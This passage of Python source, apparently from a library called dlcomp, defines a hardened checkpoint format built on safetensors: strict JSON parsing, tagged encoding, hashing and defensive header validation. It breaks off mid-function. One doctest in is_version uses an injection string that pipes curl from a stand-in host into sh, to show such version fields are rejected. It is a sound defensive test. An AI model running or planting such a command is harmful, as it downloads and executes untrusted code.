"""The checkpoint file dlcomp writes (format version 3): write, read, verify (private).

A version-3 checkpoint is a `safetensors <https://huggingface.co/docs/safetensors>`_
file, so any safetensors reader can list its tensors; nothing in it is
pickled or compressed::

    8 bytes   N, the header's length (little-endian unsigned 64-bit)
    N bytes   the header: JSON, ASCII, padded with spaces to a multiple of 8
    the rest  every tensor's bytes, back to back, in the header's order

The header maps each tensor's name to its dtype, shape and byte range, and
holds ``__metadata__``: the format's name and version, the *manifest* (a JSON
text) and the SHA-256 of the manifest. The manifest holds everything else:
the step, the dlcomp version, the model's and the optimizer's states and the
extras as tagged JSON values (:func:`encode`), whose tensors refer to the
header's entries by name, and each tensor's dtype, shape and SHA-256.

Reading (:func:`read`) checks, before it allocates anything, that the header
is the very text dlcomp writes for its content, that the byte ranges tile the
data exactly up to the end of the file, and that every entry matches the
manifest, whose hash it verifies; then it reads each tensor into memory of
its own exact size and verifies its hash. Every byte of the file is thus
checked, and memory never exceeds about the file's size. One parser
(:func:`json.loads`, strict) reads all of it.

Files written by others (plain ``torch.save`` files, version 1 and 2
checkpoints) are read through :mod:`dlcomp._torchzip` instead.
"""

from __future__ import annotations

import ctypes
import hashlib
import io
import json
import math
import os
import re
import stat
import sys
from collections import OrderedDict
from collections.abc import Callable, Iterable, Mapping
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from queue import SimpleQueue
from typing import IO, Any, cast

import torch
from torch import Tensor, nn
from torch.nn.parameter import UninitializedBuffer, UninitializedParameter

from dlcomp._checkpoint import CheckpointError, names
from dlcomp._identity import view_key

__all__ = [
    "FORMAT",
    "VERSION",
    "Encoded",
    "check_map_location",
    "check_storable",
    "decode",
    "encode",
    "encode_checkpoint",
    "read",
    "read_file",
    "read_header",
    "sniff",
    "strict_json",
    "write",
    "write_safetensors",
]

FORMAT = "dlcomp.checkpoint"
VERSION = 3

# The safetensors names of the dtypes a checkpoint stores (those that
# safetensors.torch reads too).
DTYPES: dict[str, torch.dtype] = {
    "BOOL": torch.bool,
    "U8": torch.uint8,
    "I8": torch.int8,
    "I16": torch.int16,
    "I32": torch.int32,
    "I64": torch.int64,
    "F16": torch.float16,
    "BF16": torch.bfloat16,
    "F32": torch.float32,
    "F64": torch.float64,
    "C64": torch.complex64,
}
for _safetensors_name, _torch_name in (
    ("U16", "uint16"),
    ("U32", "uint32"),
    ("U64", "uint64"),
    ("F8_E4M3", "float8_e4m3fn"),
    ("F8_E5M2", "float8_e5m2"),
):
    if hasattr(torch, _torch_name):
        DTYPES[_safetensors_name] = getattr(torch, _torch_name)
NAMES = {dtype: name for name, dtype in DTYPES.items()}

MAX_HEADER = 256 * 2**20  # bytes of JSON a header may hold
MAX_DEPTH = 64  # nesting of values (lists, dicts, tuples)
MAX_NODES = 10**7  # values in one checkpoint's manifest
_INT64 = 2**64  # ints are stored if -2**64 < i < 2**64
_HEX = re.compile(r"[0-9a-f]{64}")
_TAGS = ("$tensor", "$tuple", "$dict", "$float", "$dtype", "$device")


# --- strict JSON ----------------------------------------------------------------------


def _no_duplicates(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
    out = dict(pairs)
    if len(out) != len(pairs):
        seen: set[str] = set()
        twice = [k for k, _ in pairs if k in seen or seen.add(k)]  # type: ignore[func-returns-value]
        raise ValueError(f"a JSON object has the key {twice[0][:40]!r} twice")
    return out


def _no_constant(name: str) -> object:
    raise ValueError(f"{name} is not JSON")


def strict_json(text: str | bytes, where: str) -> Any:
    """``json.loads`` that refuses duplicate keys and NaN/Infinity; CheckpointError."""
    try:
        return json.loads(
            text, object_pairs_hook=_no_duplicates, parse_constant=_no_constant
        )
    except (ValueError, RecursionError) as error:  # JSONDecodeError is a ValueError
        why = "nested too deeply" if isinstance(error, RecursionError) else str(error)
        raise CheckpointError(
            f"{where} is not valid JSON ({why[:120]}): the file is damaged"
        ) from None


def json_memory(text: bytes) -> int:
    """About how many bytes of memory reading the JSON ``text`` takes, at most.

    Counted from the characters that make new objects, without parsing: a
    container costs 72 bytes, twice (the manifest's containers are copied
    when its values are decoded), a string 56, any value 40 (a float and its
    slot); every byte inside strings counts as if it were structure (an
    overestimate), and the text itself is held twice (the header, then the
    manifest inside it). ``[[],[],...]`` takes about 50 times its size; a
    list of floats about four times.

    Examples:
        >>> json_memory(b"[" + b"[]," * 999 + b"[]]") > 40 * 3000
        True
    """
    containers = text.count(b"[") + text.count(b"{")
    strings = text.count(b'"') // 2
    values = text.count(b",") + text.count(b":") + 1
    return 144 * containers + 56 * strings + 40 * values + 2 * len(text)


def dumps(value: object) -> str:
    """The one JSON text dlcomp writes for ``value`` (compact, ASCII)."""
    return json.dumps(value, separators=(",", ":"), ensure_ascii=True, allow_nan=False)


# --- values as tagged JSON ----------------------------------------------------------


class _Tensors:
    """The tensors of a checkpoint being encoded: each stored once, by name."""

    def __init__(self) -> None:
        self.stored: dict[str, Tensor] = {}  # name -> the bytes to store (CPU later)
        self.info: dict[str, dict[str, Any]] = {}  # name -> dtype, shape, view
        self._by_key: dict[tuple[object, ...], str] = {}

    def add(self, tensor: Tensor, where: str, name: str) -> str:
        """Store ``tensor`` (``where`` in messages) under ``name``; return its name."""
        check_storable(tensor, where)
        key = view_key(tensor)
        if key in self._by_key:
            return self._by_key[key]  # tied: stored once
        wanted, number = name, 1
        while name in self.stored:
            number += 1
            name = f"{wanted}#{number}"
        data, view = _bytes_to_store(tensor.detach())
        self.stored[name] = data
        self.info[name] = {"dtype": NAMES[tensor.dtype], "shape": list(data.shape)}
        if view is not None:
            self.info[name]["view"] = view
        self._by_key[key] = name
        return name


def check_storable(tensor: Tensor, where: str) -> None:
    kind = type(tensor)
    if isinstance(tensor, UninitializedParameter | UninitializedBuffer):
        raise ValueError(
            f"{where} is an uninitialized (lazy) parameter or buffer: it has no "
            "values yet. Run the model once on a sample batch (or "
            "dlcomp.materialize(model, sample)) first"
        )
    if kind not in (Tensor, nn.Parameter):
        raise TypeError(
            f"{where} is a {kind.__module__}.{kind.__qualname__}, a subclass of "
            "torch.Tensor, which a checkpoint cannot store (it would come back "
            "as a plain tensor, or not at all): store a plain tensor "
            "(tensor.as_subclass(torch.Tensor))"
        )
    if tensor.device.type == "meta":
        raise ValueError(
            f"{where} is on the meta device: it has no values to save. Give the "
            "model memory and values first (model.to_empty(device='cpu'), then "
            "initialize or load it)"
        )
    if tensor.layout != torch.strided or tensor.is_quantized:
        raise TypeError(
            f"{where} is a {'quantized' if tensor.is_quantized else tensor.layout} "
            "tensor; a checkpoint stores dense (strided) tensors: convert it "
            "first (.to_dense(), .dequantize())"
        )
    if tensor.dtype not in NAMES:
        raise TypeError(
            f"{where} has dtype {tensor.dtype}, which a checkpoint does not store "
            f"(it stores {', '.join(str(d).removeprefix('torch.') for d in NAMES)})"
        )


def _bytes_to_store(tensor: Tensor) -> tuple[Tensor, dict[str, list[int]] | None]:
    """The tensor to write for ``tensor``, and how to view it back (or ``None``).

    A tensor whose elements share memory (``expand``, a zero stride) is stored
    as the span of memory it covers, with its shape and strides: ``ones(1)
    .expand(2**28)`` stores one element, not 2**28. Any other tensor is stored
    whole and contiguous.
    """
    numel = tensor.numel()
    if numel > 0:
        span = 1 + sum(
            (n - 1) * s for n, s in zip(tensor.shape, tensor.stride(), strict=True)
        )
        if span < numel:
            base = torch.as_strided(tensor, (span,), (1,), tensor.storage_offset())
            view = {"shape": list(tensor.shape), "stride": list(tensor.stride())}
            return base.contiguous(), view
    return tensor.contiguous(), None


class _Budget:
    """Counts the values encoded or decoded; refuses a checkpoint with too many."""

    def __init__(self, where: str, error: Callable[[str], BaseException]) -> None:
        self.left = MAX_NODES
        self.where = where
        self.error = error

    def spend(self, depth: int, where: str) -> None:
        self.left -= 1
        if self.left < 0:
            raise self.error(
                f"{self.where} holds more than {MAX_NODES} values (or the same "
                "containers many times over): a checkpoint stores at most that many"
            )
        if depth > MAX_DEPTH:
            raise self.error(
                f"{where} is nested more than {MAX_DEPTH} levels deep: a checkpoint "
                "stores values nested at most that deep"
            )


_Path = tuple[Any, ...]  # (parent path, key), or (root name,): cheap to extend


def _where(path: _Path) -> str:
    """A path as a Python expression: ``extra['losses'][3]``."""
    keys = []
    while len(path) == 2:
        path, key = path
        keys.append(f"[{key!r}]")
    return str(path[0]) + "".join(reversed(keys))


def _name(path: _Path) -> str:
    """A path as a tensor's name in the file: ``extra/losses/3``."""
    keys = []
    while len(path) == 2:
        path, key = path
        keys.append(str(key))
    return "/".join([str(path[0]), *reversed(keys)])


_CONTAINERS = (list, tuple, dict, OrderedDict)


def count_values(value: object, where: str) -> int:
    """How many values encoding ``value`` writes; TypeError beyond the limits.

    A container reached twice is counted twice (JSON has no shared
    references), but looked at once: a tuple nested in itself 40 times
    (``t = (t, t)``) is refused at once, not after 2**40 steps.
    """
    sizes: dict[int, int] = {}
    alive = []  # keeps every container counted alive, so no id is reused

    def size(item: object, depth: int) -> int:
        kind = type(item)
        if kind not in _CONTAINERS:
            return 1
        if id(item) in sizes:
            return sizes[id(item)]
        if depth > MAX_DEPTH:
            raise TypeError(
                f"{where} holds values nested more than {MAX_DEPTH} levels deep: "
                "a checkpoint stores values nested at most that deep"
            )
        children = cast("dict[object, object]", item).values() if kind in (
            dict, OrderedDict) else cast("list[object]", item)  # fmt: skip
        total = 1
        for child in children:
            total += size(child, depth + 1)
            if total > MAX_NODES:
                break
        sizes[id(item)] = total
        alive.append(item)
        return total

    total = size(value, 0)
    if total > MAX_NODES:
        raise TypeError(
            f"{where} holds more than {MAX_NODES} values (counting a container "
            "each time it is reached): a checkpoint stores at most that many"
        )
    return total


def encode(value: object, where: str, tensors: _Tensors) -> Any:
    """``value`` as tagged JSON; its tensors go to ``tensors``, referred to by name.

    Plain JSON stands for itself: ``None``, ``True``, numbers, strings, lists
    and dicts whose keys are strings not starting with ``$``. Everything else
    is a one-key object: ``{"$tensor": name}``, ``{"$tuple": [...]}``,
    ``{"$dict": [[key, value], ...]}`` (int keys, or keys starting with
    ``$``), ``{"$float": "nan"}`` (and ``"inf"``, ``"-inf"``),
    ``{"$dtype": "float32"}``, ``{"$device": "cuda:0"}``. NumPy scalars become
    Python numbers. Anything else raises TypeError, naming where it is (a
    Python expression such as ``extra['losses'][3]``). A tensor is stored
    under that path written with slashes (``extra/losses/3``).

    Examples:
        >>> table = _Tensors()
        >>> encode({"lr": 0.1, "betas": (0.9, 0.99), 3: torch.zeros(2)}, "x", table)
        {'$dict': [['lr', 0.1], ['betas', {'$tuple': [0.9, 0.99]}], [3, {'$tensor': 'x/3'}]]}
        >>> decode(_, "x", table.stored)
        {'lr': 0.1, 'betas': (0.9, 0.99), 3: tensor([0., 0.])}
        >>> encode({"when": object()}, "extra", table)
        Traceback (most recent call last):
        ...
        TypeError: extra['when'] is a builtins.object, which a checkpoint cannot store; store plain numbers, strings, tensors, and lists, tuples or dicts of them
    """  # noqa: E501
    count_values(value, where)
    return _encode(value, (where,), tensors)


def _encode(value: object, path: _Path, tensors: _Tensors) -> Any:
    kind = type(value)
    if value is None or kind is bool or kind is str:
        return value
    if kind is float:
        number = cast(float, value)
        if math.isfinite(number):
            return number
        return {
            "$float": "nan" if math.isnan(number) else ("inf" if number > 0 else "-inf")
        }
    if kind is int:
        if not -_INT64 < cast(int, value) < _INT64:
            raise TypeError(
                f"{_where(path)} is an int beyond 64 bits, which a checkpoint does "
                "not store"
            )
        return value
    if kind is list or kind is tuple:
        items = [
            _encode(v, (path, i), tensors)
            for i, v in enumerate(cast("list[object]", value))
        ]
        return items if kind is list else {"$tuple": items}
    if kind is dict or kind is OrderedDict:
        mapping = cast("dict[object, object]", value)
        plain = True
        for key in mapping:
            if type(key) is str:
                plain = plain and not key.startswith("$")
            elif type(key) is int:
                plain = False
            else:
                raise TypeError(
                    f"{_where(path)} has a key of type {type(key).__name__} "
                    f"({str(key)[:40]!r}); a checkpoint stores dicts with str and "
                    "int keys"
                )
        if plain:
            return {k: _encode(v, (path, k), tensors) for k, v in mapping.items()}
        return {
            "$dict": [[k, _encode(v, (path, k), tensors)] for k, v in mapping.items()]
        }
    if isinstance(value, Tensor):
        return {"$tensor": tensors.add(value, _where(path), _name(path))}
    if kind is torch.dtype:
        return {"$dtype": str(value).removeprefix("torch.")}
    if kind is torch.device:
        return {"$device": str(value)}
    if type(value).__module__ == "numpy" and hasattr(value, "item"):
        item = value.item()  # a NumPy scalar: np.float64, np.int64, np.bool_
        if type(item) in (bool, int, float):
            return _encode(item, path, tensors)
    where = _where(path)
    hint = ""
    if isinstance(value, tuple | list | dict | str | int | float):
        hint = f" (convert it to a plain {kind.__mro__[-2].__name__} first)"
    elif hasattr(value, "value") and hasattr(type(value), "__members__"):
        hint = f" (store its value, {where}.value, instead)"
    raise TypeError(
        f"{where} is a {kind.__module__}.{kind.__qualname__}, which a checkpoint "
        f"cannot store{hint}; store plain numbers, strings, tensors, and lists, "
        "tuples or dicts of them"
    )


def _damaged(where: str) -> Callable[[str], CheckpointError]:
    return lambda why: CheckpointError(
        f"{where} is a damaged checkpoint: {why}. Nothing was loaded"
    )


def decode(value: Any, where: str, tensors: Mapping[str, Tensor],
           budget: _Budget | None = None, depth: int = 0) -> Any:  # fmt: skip
    """The value :func:`encode` encoded as ``value``; CheckpointError if malformed."""
    if budget is None:
        budget = _Budget(where, _damaged(where))
    budget.spend(depth, where)
    kind = type(value)
    if value is None or kind in (bool, int, float, str):
        return value
    if kind is list:
        return [decode(v, where, tensors, budget, depth + 1) for v in value]
    if kind is not dict:
        raise budget.error(f"a value of type {kind.__name__}")
    tags = [k for k in value if k.startswith("$")]
    if not tags:
        return {
            k: decode(v, where, tensors, budget, depth + 1) for k, v in value.items()
        }
    if len(value) != 1 or tags[0] not in _TAGS:
        raise budget.error(f"an object with the keys {names([k[:20] for k in value])}")
    tag, content = tags[0], value[tags[0]]
    if tag == "$tensor":
        if type(content) is not str or content not in tensors:
            raise budget.error(
                "a reference to a tensor the file does not hold "
                f"({str(content)[:40]!r})"
            )
        return tensors[content]
    if tag == "$tuple" and type(content) is list:
        return tuple(decode(v, where, tensors, budget, depth + 1) for v in content)
    if tag == "$dict" and type(content) is list:
        out: dict[object, object] = {}
        for pair in content:
            if not (
                type(pair) is list and len(pair) == 2 and type(pair[0]) in (str, int)
            ):
                raise budget.error("a dict entry that is not a [key, value] pair")
            if pair[0] in out:
                raise budget.error(f"a dict with the key {str(pair[0])[:40]!r} twice")
            out[pair[0]] = decode(pair[1], where, tensors, budget, depth + 1)
        return out
    if tag == "$float" and content in ("nan", "inf", "-inf"):
        return float(content)
    if tag == "$dtype" and type(content) is str:
        dtype = getattr(torch, content, None) if content.isidentifier() else None
        if isinstance(dtype, torch.dtype):
            return dtype
    if tag == "$device" and type(content) is str and len(content) <= 40:
        try:
            return torch.device(content)
        except (RuntimeError, ValueError):
            pass
    raise budget.error(f"a malformed {tag} value")


# --- the file -----------------------------------------------------------------------


@dataclass
class Encoded:
    """A checkpoint ready to write: its manifest and the tensors it stores."""

    manifest: dict[str, Any]
    tensors: dict[str, Tensor]  # in the order they are written
    info: dict[str, dict[str, Any]] = field(default_factory=dict)  # dtype, shape, view

    def to_host(self, buffers: dict[str, Tensor]) -> Encoded:
        """A copy whose tensors are in host memory of its own (for a background write).

        The copies go into ``buffers``, reused from one save to the next when
        shapes and dtypes match: copying into memory already mapped is
        several times faster than into new memory. A CPU tensor is copied
        with one ``memmove``: ``Tensor.copy_`` splits a large copy between
        torch's threads, and on a busy machine waiting for them costs more
        than the copy.
        """
        copies = {}
        for name, tensor in self.tensors.items():
            buffer = buffers.get(name)
            if buffer is None or (buffer.shape, buffer.dtype) != (
                tensor.shape,
                tensor.dtype,
            ):
                buffer = buffers[name] = torch.empty(
                    tensor.shape, dtype=tensor.dtype, device="cpu"
                )
            if tensor.device.type == "cpu" and tensor.is_contiguous():
                size = tensor.numel() * tensor.element_size()
                if size:
                    ctypes.memmove(buffer.data_ptr(), tensor.data_ptr(), size)
                copies[name] = buffer
            else:
                copies[name] = buffer.copy_(tensor)
        for name in set(buffers) - set(copies):
            del buffers[name]  # not in this checkpoint: free its memory
        return Encoded(self.manifest, copies, self.info)


def encode_checkpoint(
    *,
    step: int,
    model: Mapping[str, Any],
    model_metadata: object,
    optimizer: object,
    optimizer_class: str | None,
    extra: Mapping[str, Any],
    rng: object,
    version: str,
) -> Encoded:
    """Encode a checkpoint's fields (TypeError/ValueError for what cannot be stored)."""
    table = _Tensors()
    fields = {
        "model": dict(model),
        "model_metadata": model_metadata,
        "optimizer": optimizer,
        "extra": dict(extra),
        "rng": rng,
    }
    count_values(list(fields.values()), "the checkpoint")
    manifest = {
        "dlcomp": version,
        "step": step,
        "optimizer_class": optimizer_class,
        **{key: _encode(value, (key,), table) for key, value in fields.items()},
    }
    return Encoded(manifest, table.stored, table.info)


def _memory(tensor: Tensor) -> memoryview:
    """The bytes of a contiguous CPU tensor, without copying them."""
    size = tensor.numel() * tensor.element_size()
    if size == 0:
        return memoryview(b"")
    return memoryview((ctypes.c_char * size).from_address(tensor.data_ptr())).cast("B")


def _sha256(tensor: Tensor) -> str:
    return hashlib.sha256(_memory(tensor)).hexdigest()


# Hashing runs in threads beside the writes and reads (hashlib and file I/O
# release the GIL on large buffers): two, one per core of a small machine.
_THREADS = 2
_PARALLEL = 2**24  # bytes below which hashing in threads costs more than it saves
_CHUNK = 2**22  # bytes read at a time, each hashed while the next is read
_SMALL = 2**16  # bytes of a tensor read and hashed at once, without a thread


def _hashes(tensors: Iterable[Tensor]) -> list[str]:
    """SHA-256 of each tensor's bytes; two threads (hashlib releases the GIL)."""
    items = list(tensors)
    if sum(t.numel() * t.element_size() for t in items) < _PARALLEL:
        return [_sha256(t) for t in items]
    with ThreadPoolExecutor(_THREADS) as pool:
        return list(pool.map(_sha256, items))


def _on_host(tensors: Mapping[str, Tensor]) -> dict[str, Tensor]:
    return {
        name: t if t.device.type == "cpu" else t.to("cpu")
        for name, t in tensors.items()
    }


def _header(tensors: Mapping[str, Tensor], metadata: Mapping[str, str]) -> bytes:
    """The safetensors header of ``tensors``, its length first, padded to 8 bytes."""
    header: dict[str, Any] = {"__metadata__": dict(metadata)} if metadata else {}
    offset = 0
    for name, tensor in tensors.items():
        size = tensor.numel() * tensor.element_size()
        header[name] = {
            "dtype": NAMES[tensor.dtype],
            "shape": list(tensor.shape),
            "data_offsets": [offset, offset + size],
        }
        offset += size
    text = dumps(header).encode("ascii")
    text += b" " * (-len(text) % 8)
    return len(text).to_bytes(8, "little") + text


def write_safetensors(
    file: IO[bytes], tensors: Mapping[str, Tensor], metadata: Mapping[str, str]
) -> None:
    """Write a safetensors file: header, then each tensor's bytes, streamed.

    ``tensors`` are contiguous (on any device: each is copied to the CPU in
    turn). The header is the one text :func:`read_header` accepts for it.
    """
    if sys.byteorder != "little":  # pragma: no cover - no such machine here
        raise RuntimeError("checkpoints are written on little-endian machines only")
    file.write(_header(tensors, metadata))
    for tensor in tensors.values():
        host = tensor if tensor.device.type == "cpu" else tensor.to("cpu")
        file.write(_memory(host))


def _metadata(encoded: Encoded, tensors: Mapping[str, Tensor],
              hashes: Iterable[str]) -> dict[str, str]:  # fmt: skip
    """The header's ``__metadata__``: the manifest, listing each tensor's hash."""
    listing = {}
    for (name, tensor), digest in zip(tensors.items(), hashes, strict=True):
        listing[name] = {**encoded.info[name], "sha256": digest}
        listing[name]["shape"] = list(tensor.shape)
    manifest = dumps({**encoded.manifest, "tensors": listing})
    return {
        "format": FORMAT,
        "version": str(VERSION),
        "manifest": manifest,
        "sha256": hashlib.sha256(manifest.encode("ascii")).hexdigest(),
    }


def _seekable(file: IO[bytes]) -> bool:
    try:
        return file.seekable()
    except (AttributeError, OSError, ValueError):
        return False


def write(file: IO[bytes], encoded: Encoded) -> None:
    """Write a version-3 checkpoint: header, then data, every tensor hashed.

    In a file that can seek, the tensors are hashed while they are written
    (in threads beside the writes) under a header whose hashes are
    placeholders of the same length; the header is then written again, in
    place, with the hashes. Elsewhere every tensor is hashed first.
    """
    if sys.byteorder != "little":  # pragma: no cover - no such machine here
        raise RuntimeError("checkpoints are written on little-endian machines only")
    tensors = _on_host(encoded.tensors)
    size = sum(t.numel() * t.element_size() for t in tensors.values())
    if size < _PARALLEL or not _seekable(file):
        hashes = _hashes(tensors.values())
        write_safetensors(file, tensors, _metadata(encoded, tensors, hashes))
        return
    start = file.tell()
    placeholder = _header(
        tensors, _metadata(encoded, tensors, ["0" * 64] * len(tensors))
    )
    file.write(placeholder)
    pool = ThreadPoolExecutor(_THREADS)
    try:
        futures = [
            _sha256(t)
            if t.numel() * t.element_size() <= _SMALL
            else pool.submit(_sha256, t)
            for t in tensors.values()
        ]
        for tensor in tensors.values():
            file.write(_memory(tensor))
        hashes = [f if isinstance(f, str) else f.result() for f in futures]
    finally:
        pool.shutdown(cancel_futures=True)  # a failed write hashes no further
    header = _header(tensors, _metadata(encoded, tensors, hashes))
    assert len(header) == len(placeholder)  # hex digests: the same length
    end = file.tell()
    file.seek(start)
    file.write(header)
    file.seek(end)


# --- reading ----------------------------------------------------------------------


def open_regular(path: Path, what: str) -> IO[bytes]:
    """Open ``path`` for reading if it is a regular file; never blocks on a FIFO."""
    flags = os.O_RDONLY | getattr(os, "O_NONBLOCK", 0) | getattr(os, "O_BINARY", 0)
    try:
        fd = os.open(path, flags)
    except FileNotFoundError:
        raise FileNotFoundError(2, f"no {what} at {path}", str(path)) from None
    except PermissionError as error:
        raise CheckpointError(
            f"{path} cannot be read (permission denied): not loaded"
        ) from error
    except OSError as error:
        raise CheckpointError(
            f"{path} cannot be opened ({error.strerror or error}): not a {what}"
        ) from error
    if not stat.S_ISREG(os.fstat(fd).st_mode):
        os.close(fd)
        raise CheckpointError(
            f"{path} is not a regular file (a directory, FIFO or device): not a {what}"
        )
    return open(fd, "rb")


def sniff(head: bytes) -> str:
    """What a file's first 9 bytes say: ``"zip"``, ``"safetensors"`` or ``"?"``."""
    if head.startswith(b"PK\x03\x04"):
        return "zip"
    if len(head) >= 9 and head[8:9] == b"{":
        return "safetensors"
    return "?"


def _read_into(file: IO[bytes], view: memoryview, where: str) -> None:
    """Fill ``view`` with the next bytes of ``file``."""
    got = 0
    while got < len(view):
        count = file.readinto(view[got:])  # type: ignore[attr-defined]
        if not count:
            raise CheckpointError(
                f"{where} ends early: the file is truncated. Nothing was loaded"
            )
        got += count


def _exact_read(file: IO[bytes], size: int, where: str) -> bytearray:
    """Exactly ``size`` bytes of ``file``, into memory of that size."""
    buffer = bytearray(size)
    _read_into(file, memoryview(buffer), where)
    return buffer


@dataclass
class Header:
    """A safetensors header, checked: where each tensor lies in the file."""

    metadata: dict[str, str]
    entries: dict[
        str, tuple[torch.dtype, tuple[int, ...], int, int]
    ]  # dtype, shape, begin, end
    data_start: int


def read_header(file: IO[bytes], size: int, where: str, *, canonical: bool) -> Header:
    """Read and check a safetensors header; allocate nothing the file declares.

    The byte ranges must tile the data exactly, from the end of the header to
    the end of the file, each as long as its dtype and shape say. With
    ``canonical``, the header must also be byte for byte the text
    :func:`write_safetensors` writes for it (dlcomp's own files).
    """
    damaged = _damaged(where)
    if size < 8:
        raise damaged(f"it has {size} bytes, fewer than a header's length")
    length = int.from_bytes(file.read(8), "little")
    if length > min(size - 8, MAX_HEADER):
        raise damaged(
            f"it declares a header of {length} bytes, and holds {size - 8} after its "
            f"first 8 bytes (at most {MAX_HEADER} may be header)"
        )
    raw = bytes(_exact_read(file, length, where))
    text = raw.rstrip(b" ")
    needed = json_memory(text)
    if needed > max(4 * size, 2**26):
        raise damaged(
            f"its header of {length} bytes would take about {needed >> 20} MiB of "
            f"memory to read, far more than the file's {size} bytes: it is crafted"
        )
    if canonical and (length % 8 or len(raw) - len(text) >= 8):
        raise damaged("its header is not padded as dlcomp pads it")
    header = strict_json(text, f"{where}'s header") if text.isascii() else None
    if not isinstance(header, dict):
        raise damaged("its header is not a JSON object of ASCII text")
    if canonical and dumps(header).encode("ascii") != text:
        raise damaged("its header is not the text dlcomp writes for it")
    metadata = header.pop("__metadata__", {})
    if not (
        isinstance(metadata, dict) and all(type(v) is str for v in metadata.values())
    ):
        raise damaged("its __metadata__ is not a map of strings")
    data_start = 8 + length
    entries = {}
    offset = 0
    data_size = size - data_start
    for name, entry in header.items():
        if not (
            isinstance(entry, dict) and set(entry) == {"dtype", "shape", "data_offsets"}
        ):
            raise damaged(
                f"the entry of tensor {name[:60]!r} is not a dtype, shape and "
                "byte range"
            )
        dtype = DTYPES.get(entry["dtype"]) if type(entry["dtype"]) is str else None
        shape, offsets = entry["shape"], entry["data_offsets"]
        if dtype is None:
            raise damaged(f"tensor {name[:60]!r} has an unknown dtype")
        if not (type(shape) is list and all(type(n) is int and n >= 0 for n in shape)):
            raise damaged(f"tensor {name[:60]!r} has no valid shape")
        if not (type(offsets) is list and len(offsets) == 2 and offsets[0] == offset
                and type(offsets[1]) is int):  # fmt: skip
            raise damaged(
                f"tensor {name[:60]!r} does not start where the previous one ends"
            )
        nbytes = torch.empty((), dtype=dtype).element_size()
        for n in shape:  # the product, stopped as soon as it passes the data's size
            nbytes *= n
            if nbytes > data_size:
                break
        if offsets[1] > data_size and offsets[1] - offsets[0] == nbytes:
            raise damaged(
                f"tensor {name[:60]!r} ends at byte {offsets[1]} of the data, and "
                f"the file holds {data_size}: the file is truncated"
            )
        if offsets[1] - offsets[0] != nbytes or offsets[1] > data_size:
            raise damaged(
                f"tensor {name[:60]!r} occupies bytes {offsets[0]} to {offsets[1]} of "
                f"{data_size}, which does not fit its dtype and shape"
            )
        entries[name] = (dtype, tuple(shape), offsets[0], offsets[1])
        offset = offsets[1]
    if offset != data_size:
        raise damaged(
            f"its tensors cover {offset} bytes of data, and the file holds {data_size}"
        )
    return Header(metadata, entries, data_start)


def is_version(text: object) -> bool:
    """Whether ``text`` is a plain version number (``1.2.0``, ``2.0rc1``).

    A file's fields are quoted in a message only when they cannot be taken
    for anything else (a shell command to paste, say).

    Examples:
        >>> is_version("2.0.1"), is_version("1.0'; curl evil.example | sh")
        (True, False)
    """
    return (
        isinstance(text, str)
        and len(text) <= 32
        and bool(re.fullmatch(r"\d+(\.\d+){0,3}([a-z]+\d+)?", text, flags=re.ASCII))
    )


def _newer(where: str, version: int, written_by: object = None) -> CheckpointError:
    by = f"dlcomp {written_by}" if is_version(written_by) else "a newer dlcomp"
    return CheckpointError(
        f"{where} has checkpoint format version {version}, written by {by}; this "
        f"dlcomp reads versions 1 to {VERSION}. Upgrade dlcomp to read it: pip "
        "install --upgrade dlcomp"
    )


def _checked_manifest(header: Header, where: str) -> dict[str, Any]:
    damaged = _damaged(where)
    metadata = header.metadata
    if metadata.get("format") != FORMAT:
        raise CheckpointError(
            f"{where} is a safetensors file, not a dlcomp checkpoint (its metadata "
            "names no dlcomp format): load its tensors with dlcomp.load_safetensors "
            "or safetensors.torch.load_file"
        )
    version = metadata.get("version", "")
    if version != str(VERSION):
        if version.isdigit() and len(version) < 6 and int(version) > VERSION:
            raise _newer(where, int(version))
        raise damaged("its format version is not one dlcomp wrote")
    if set(metadata) != {"format", "version", "manifest", "sha256"}:
        raise damaged("its metadata does not have the fields dlcomp writes")
    text = metadata["manifest"]
    if (
        not text.isascii()
        or hashlib.sha256(text.encode("ascii")).hexdigest() != metadata["sha256"]
    ):
        raise damaged("its manifest does not match its SHA-256")
    manifest = strict_json(text, f"{where}'s manifest")
    fields = {"dlcomp", "step", "model", "model_metadata", "optimizer",
              "optimizer_class", "extra", "rng", "tensors"}  # fmt: skip
    if not (isinstance(manifest, dict) and set(manifest) == fields):
        raise damaged("its manifest does not have the fields dlcomp writes")
    listing = manifest["tensors"]
    if not (isinstance(listing, dict) and list(listing) == list(header.entries)):
        raise damaged("its manifest does not list the tensors its header holds")
    for name, info in listing.items():
        dtype, shape, _, _ = header.entries[name]
        if not (
            isinstance(info, dict)
            and set(info) - {"view"} == {"dtype", "shape", "sha256"}
            and info["dtype"] == NAMES[dtype]
            and info["shape"] == list(shape)
            and type(info["sha256"]) is str
            and _HEX.fullmatch(info["sha256"])
        ):
            raise damaged(f"its manifest and header disagree on tensor {name[:60]!r}")
    return manifest


def _viewed(base: Tensor, view: object, where: str) -> Tensor:
    """``base`` seen with the shape and strides a stored view records.

    No memory is allocated: the view shares ``base``'s, and ``base`` holds
    every element it reaches.
    """
    if not (
        isinstance(view, dict)
        and set(view) == {"shape", "stride"}
        and type(view["shape"]) is list
        and type(view["stride"]) is list
        and len(view["shape"]) == len(view["stride"]) <= 64
        and all(
            type(n) is int and 0 <= n < 2**62 for n in view["shape"] + view["stride"]
        )
        and base.dim() == 1
    ):
        raise _damaged(where)("a tensor's view is malformed")
    shape, stride = view["shape"], view["stride"]
    if math.prod(shape) >= 2**62:
        raise _damaged(where)("a tensor's view has more elements than torch allows")
    if 0 not in shape:
        span = 1 + sum((n - 1) * s for n, s in zip(shape, stride, strict=True))
        if span > base.numel():
            raise _damaged(where)("a tensor's view reaches past its stored bytes")
    try:
        return torch.as_strided(base, shape, stride)
    except RuntimeError as error:
        raise _damaged(where)(f"a tensor's view cannot be made ({error})") from None


def check_map_location(map_location: object) -> torch.device:
    """The device a load puts tensors on (``None``: the CPU), checked.

    The caller's mistakes are a ValueError or TypeError here, before any file
    is read: a checkpoint is never blamed for them.

    Examples:
        >>> check_map_location(None), check_map_location("cpu")
        (device(type='cpu'), device(type='cpu'))
        >>> check_map_location(7)
        Traceback (most recent call last):
        ...
        TypeError: map_location must be None, a device name such as 'cpu' or 'cuda:0', or a torch.device; got the int 7
    """  # noqa: E501
    if map_location is None:
        return torch.device("cpu")
    if not isinstance(map_location, str | torch.device):
        raise TypeError(
